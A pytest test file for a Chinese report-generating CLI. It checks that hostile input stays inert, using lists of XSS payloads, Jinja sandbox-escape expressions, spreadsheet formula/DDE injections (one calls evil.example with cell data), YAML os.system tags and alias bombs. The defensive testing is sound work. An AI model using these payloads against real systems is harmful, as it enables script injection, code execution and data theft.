"""Hostile content: markup in every text field stays text in HTML, templates stay in their
sandbox, spreadsheet cells never become formulas, the YAML loader builds no Python object and
expands no alias, and `-o` never overwrites the plan and writes atomically.

tests/notice, tests/ledger and tests/bad hold the first corpora of each; these add what they
leave out: internal fields (a custom template can print them), more payloads and tags, the
round summary, hard links and kills."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import support
import yaml
from support import BAD, SHIPPED, copy_plan, write_plan_in

from rectify_cli import errors
from rectify_cli.planfile import reader

Run = Callable[..., tuple[int, str, str]]

# Beyond tests/notice's PAYLOADS: event handlers, other elements, entities, comments, CDATA,
# URLs, breaking out of <title> and of attributes, bidi overrides.
PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></body></html><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">点此</a>',
    "<style>body{display:none}</style>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&lt;b&gt; &amp;amp; &#60;",
    "<!-- 注释",
    "--> <![CDATA[<script>]]>",
    "<scr<script>ipt>alert(1)</script>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "{{ 7*7 }}{% raw %}",
]


def quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def payload_plan(p: str) -> str:
    """`p` in every text field a plan has, public and internal."""
    q = quoted(p)
    ledger = f"""owner: {q}
                  dept: {q}
                  done_by: {q}
                  outcome: {q}
                  notes:
                    - date: 2024-03-01
                      text: {q}
                      evidence: {q}
                      by: {q}"""
    return f"""\
schema: 1
title: {q}
unit: {q}
group: {q}
intro:
  heading: {q}
  paragraphs:
    - {q}
findings:
  heading: {q}
  categories:
    - title: {q}
      problems:
        - title: {q}
          items:
            - title: {q}
              results: {q}
              {ledger.replace(chr(10) + "    ", chr(10))}
              measures:
                - text: {q}
                  status: done
                  done_on: 2024-03-01
                  {ledger}
next_steps:
  heading: {q}
  paragraphs:
    - {q}
closing: {q}
editor: {q}
"""


# Prints every field of the plan, its items and measures, their ledgers and notes.
EVERYTHING = """<div class="plan">{{ plan.title }}|{{ plan.unit }}|{{ plan.group }}|
{{ plan.closing }}|{{ plan.editor }}|{{ plan.findings_heading }}|{{ plan.intro.heading }}|
{% for p in plan.intro.paragraphs %}{{ p }}|{% endfor %}
{% for c in plan.categories %}<h3>{{ c.title }}</h3>
{% for node in c.children %}<h4>{{ node.title }}</h4>{% endfor %}{% endfor %}
{% for item in plan.items() %}<p>{{ item.title }}|{{ item.results }}|{{ item.ledger.owner }}|
{{ item.ledger.dept }}|{{ item.ledger.done_by }}|{{ item.ledger.outcome }}|
{% for n in item.ledger.notes %}{{ n.text }}|{{ n.evidence }}|{{ n.by }}|{% endfor %}
{% for m in item.measures %}<span>{{ m.text }}|{{ m.owner }}|{{ m.dept }}|{{ m.ledger.done_by }}|
{{ m.ledger.outcome }}|{% for n in m.ledger.notes %}{{ n.text }}|{{ n.evidence }}|{{ n.by }}|
{% endfor %}</span>{% endfor %}</p>{% endfor %}</div>
"""
FIELDS = 27  # how many times EVERYTHING prints the payload


class Page(HTMLParser):
    """The elements and the text of an HTML page."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def unknown_decl(self, data: str) -> None:
        self.comments.append(data)


@pytest.fixture(params=PAYLOADS, ids=range(len(PAYLOADS)))
def payload(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_html_builtin_page_every_field_is_text(run: Run, tmp_path: Path, payload: str) -> None:
    plan = write_plan_in(tmp_path, payload_plan(payload))
    assert run("validate", "-p", plan)[0] == 0
    for options in ((), ("--marks", "--stats", "--as-of", "2024-06-30")):
        code, html, err = run("report", "-f", "html", "-p", plan, *options)
        assert code == 0, err
        page = Page(html)
        assert {tag for tag, _ in page.tags} <= {
            "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p",
        }  # fmt: skip
        assert [tag for tag, _ in page.tags].count("meta") == 2
        assert page.comments == []
        text = "".join(page.text)
        assert text.count(payload) >= 12  # title twice, headings, paragraphs, items ...
        for _, attrs in page.tags[page.tags.index(("body", [])) :]:
            assert [name for name, _ in attrs] in ([], ["class"])


def test_html_custom_template_every_internal_field_is_text(
    run: Run, tmp_path: Path, payload: str
) -> None:
    """A clerk's own template may print the internal fields too: escaped as well."""
    plan = write_plan_in(tmp_path, payload_plan(payload))
    template = tmp_path / "all.html.j2"
    template.write_text(EVERYTHING, encoding="utf-8")
    code, html, err = run("report", "-f", "html", "-p", plan, "--template", template)
    assert code == 0, err
    page = Page(html)
    assert {tag for tag, _ in page.tags} == {"div", "h3", "h4", "p", "span"}
    assert all(attrs in ([], [("class", "plan")]) for _, attrs in page.tags)
    assert "".join(page.text).count(payload) == FIELDS


# -- templates stay in the sandbox -------------------------------------------------------------

# Beyond tests/notice's ESCAPES: the template's own internals, format strings, mutation of the
# plan, loops that never end, imports of the built-ins.
ESCAPES = [
    "{{ self._TemplateReference__context }}",
    "{{ self.__dict__ }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{{ plan.title.format_map(plan) }}",
    "{{ '{0.__init__.__globals__}'.format(plan) }}",
    "{{ '%s' % plan.__init__ }}",
    "{{ blocks.append(1) }}",
    "{{ blocks.pop() }}",
    "{% set _ = plan.__setattr__('title', 'x') %}",
    "{{ plan.categories.__class__.__mro__ }}",
    "{% import 'notice.html.j2' as n %}{{ n.__dict__ }}",
    "{{ (blocks | first).__reduce__() }}",
    "{{ range.__self__ }}",
    "{{ marker.__module__ }}{{ marker.__globals__['os'] }}",
    "{{ lipsum.__globals__ }}",
    "{% for x in range(100001) %}{% endfor %}",
    "{{ plan.find.__func__.__globals__ }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
]
LEAKS = ("<class", "<module", "<function", "<built-in", "<bound", "posix", "os.system")


@pytest.mark.parametrize("text", ESCAPES)
def test_template_escape_attempt_is_refused(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.chdir(tmp_path)
    template = tmp_path / "evil.txt.j2"
    template.write_text(text, encoding="utf-8")
    code, out, err = run("report", "-p", SHIPPED, "--template", template)
    assert not any(leak in out + err for leak in LEAKS), out + err
    if code == 0:  # harmless: the sandbox's own format_map, say, with nothing to format
        assert out.strip() in ("", "交通运输局关于区委第四巡察组反馈意见整改情况的通报"), out
        return
    assert (code, out) == (9, "")
    assert err.startswith(("模板 ", "找不到模板")) and err.count("\n") == 1, err


# -- spreadsheet cells never become formulas ---------------------------------------------------

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+1", '=HYPERLINK("http://evil.example","点此")', "=1+1;=2+2", "=\t1", "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
FORMULA_PLAN = """\
title: {q}
unit: {q}
findings:
  categories:
    - title: {q}
      problems:
        - title: {q}
          items:
            - title: {q}
              measures:
                - text: {q}
                  owner: {q}
                  dept: {q}
                  status: 正在整改
                  notes:
                    - date: 2024-03-01
                      text: {q}
                      evidence: {q}
"""


@pytest.mark.parametrize("formula", FORMULAS)
def test_xlsx_export_and_summary_never_hold_a_formula(
    run: Run, tmp_path: Path, formula: str
) -> None:
    from openpyxl import load_workbook

    plan = tmp_path / f"{formula[:1]}单位.yaml"
    plan.write_text(FORMULA_PLAN.format(q=quoted(formula)), encoding="utf-8")
    for args in (["export", "-o", tmp_path / "台账.xlsx", "-p", plan],
                 ["summary", plan, "-o", tmp_path / "汇总.xlsx"]):  # fmt: skip
        code, _, err = run(*args)
        assert code == 0, err
        book_path = Path(args[2] if args[0] == "export" else args[-1])
        with zipfile.ZipFile(book_path) as z:
            xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
        assert "<f>" not in xml and "<f " not in xml
        book = load_workbook(book_path)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert {c.data_type for c in cells if c.value is not None} <= {"s", "n"}
        assert formula in {c.value for c in cells}


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_no_cell_starts_a_formula(run: Run, tmp_path: Path, formula: str) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(FORMULA_PLAN.format(q=quoted(formula)), encoding="utf-8")
    code, out, err = run("export", "-f", "csv", "-p", plan)
    assert (code, err) == (0, "")
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    for cell in (c for row in rows[1:] for c in row):
        assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("lead", ["\t", "\r"])
def test_csv_export_formula_after_a_leading_control_character(
    run: Run, tmp_path: Path, lead: str
) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(FORMULA_PLAN.format(q=quoted(lead + "=1+1")), encoding="utf-8")
    code, out, _ = run("export", "-f", "csv", "-p", plan)
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert code == 0
    assert all(not c.startswith(lead) for row in rows[1:] for c in row[:10])


# -- the YAML loader builds nothing ---------------------------------------------------------

TAGS = [
    "!!python/object/apply:os.system ['touch PWNED']",
    "!!python/object/new:os.system ['touch PWNED']",
    "!!python/object:os.system {}",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/tuple [1, 2]",
    "!!binary 5rWL6K+V",
    "!!set {a: null}",
    "!!omap [a: 1]",
    "!!pairs [a: 1]",
    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch PWNED']",
    "!custom 值",
    "!e!tag 值",
]


@pytest.mark.parametrize("tag", TAGS)
def test_yaml_tag_is_refused_and_never_constructed(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tag: str
) -> None:
    monkeypatch.chdir(tmp_path)
    directive = "%TAG !e! tag:example.com,2024:\n---\n" if "!e!" in tag else ""
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        f"{directive}title: 标题\nunit: {tag}\nfindings:\n  categories: []\n", encoding="utf-8"
    )
    code, out, err = run("validate", "-p", plan)
    assert (code, out) == (4, "")
    assert f"{plan}:{2 + bool(directive) * 2}:7: 错误: 不允许使用标签 " in err
    assert not (tmp_path / "PWNED").exists()


def test_yaml_loader_calls_no_constructor(monkeypatch: pytest.MonkeyPatch) -> None:
    """Loading a plan, good or bad, composes nodes and reads them as text: no constructor of
    PyYAML's runs at all (so none can build an object or expand an alias)."""
    import yaml.constructor

    def refuse(*_args: Any, **_kwargs: Any) -> Any:
        raise AssertionError("a YAML constructor ran")

    monkeypatch.setattr(yaml.constructor.BaseConstructor, "construct_document", refuse)
    monkeypatch.setattr(yaml.constructor.BaseConstructor, "construct_object", refuse)
    assert reader.load(SHIPPED)[0].title
    for path in sorted(BAD.glob("*.yaml")):
        with pytest.raises(errors.PlanInvalid):
            reader.load(path)


def bomb(levels: int, width: int, flow: bool) -> str:
    lines = ["title: 标题"]
    lines.append("a0: &a0 " + ("[哈]" if flow else "哈"))
    for n in range(1, levels):
        refs = ", ".join([f"*a{n - 1}"] * width)
        lines.append(f"a{n}: &a{n} [{refs}]")
    lines.append(f"findings: *a{levels - 1}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    ("levels", "width", "flow"), [(10, 10, True), (30, 2, False), (3, 5000, True)]
)
def test_alias_bomb_is_refused_without_expanding(
    run: Run, tmp_path: Path, levels: int, width: int, flow: bool
) -> None:
    plan = tmp_path / "bomb.yaml"
    plan.write_text(bomb(levels, width, flow), encoding="utf-8")
    began = time.perf_counter()
    code, out, err = run("validate", "-p", plan)
    assert time.perf_counter() - began < 3
    assert (code, out) == (4, "")
    assert err.startswith(f"{plan}:2:5: 错误: 不允许使用 YAML 锚点 &a0,请删除。\n")
    anchors, aliases = levels, (levels - 1) * width + 1  # the last one is `findings: *a..`
    assert err.endswith(f"计划文件有 {anchors + aliases} 处错误。\n")


def test_yaml_loader_refuses_what_safe_load_would_build(tmp_path: Path) -> None:
    """For contrast: PyYAML's own safe loader does expand the aliases of a bomb."""
    text = bomb(4, 10, True)
    assert len(json.dumps(yaml.safe_load(text)["findings"])) > 10_000
    plan = tmp_path / "bomb.yaml"
    plan.write_text(text, encoding="utf-8")
    with pytest.raises(errors.PlanInvalid):
        reader.load(plan)


# -- -o never overwrites the plan, and writes atomically -----------------------------------


@pytest.mark.parametrize("command", [["report"], ["report", "-f", "html"], ["export", "-f", "csv"]])
def test_output_through_a_hard_link_is_refused(
    run: Run, tmp_path: Path, command: list[str]
) -> None:
    """A second name for the plan's file is the plan: -o onto it is refused (it used to replace
    that name, splitting the plan's two names into two files)."""
    plan = copy_plan(tmp_path)
    link = tmp_path / "通报.txt"
    os.link(plan, link)
    code, out, err = run(*command, "-p", plan, "-o", link)
    assert (code, out, err) == (6, "", "-o 指向计划文件本身,不会覆盖它。请换一个输出文件名。\n")
    assert plan.read_bytes() == link.read_bytes() == SHIPPED.read_bytes()
    assert plan.stat().st_nlink == 2


@pytest.mark.slow
@pytest.mark.parametrize("command", [["report", "-f", "html"], ["export", "-f", "csv"]])
def test_output_killed_midway_is_old_or_whole(tmp_path: Path, command: list[str]) -> None:
    """Killed at any moment, -o leaves the old file or the whole new one, never a part (and
    perhaps a temporary file, counted)."""
    out = tmp_path / "out.txt"
    old = b"old notice\n" * 100
    argv = [sys.executable, "-m", "rectify_cli", *command, "-p", str(SHIPPED), "-o", str(out)]
    env = support.clean_env(RECTIFY_NO_CACHE="1")
    began = time.monotonic()
    assert subprocess.run(argv, env=env, capture_output=True).returncode == 0
    took = time.monotonic() - began
    new = out.read_bytes()
    outcomes = []
    for n in range(8):
        out.write_bytes(old)
        victim = subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        time.sleep(took * (0.5 + n / 14))
        victim.send_signal(signal.SIGKILL)
        victim.communicate(timeout=60)
        got = out.read_bytes()
        assert got in (old, new)
        outcomes.append("new" if got == new else "old")
    left = [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    print(f"\n-o killed 8 times: {outcomes}; temporary files left: {len(left)}")
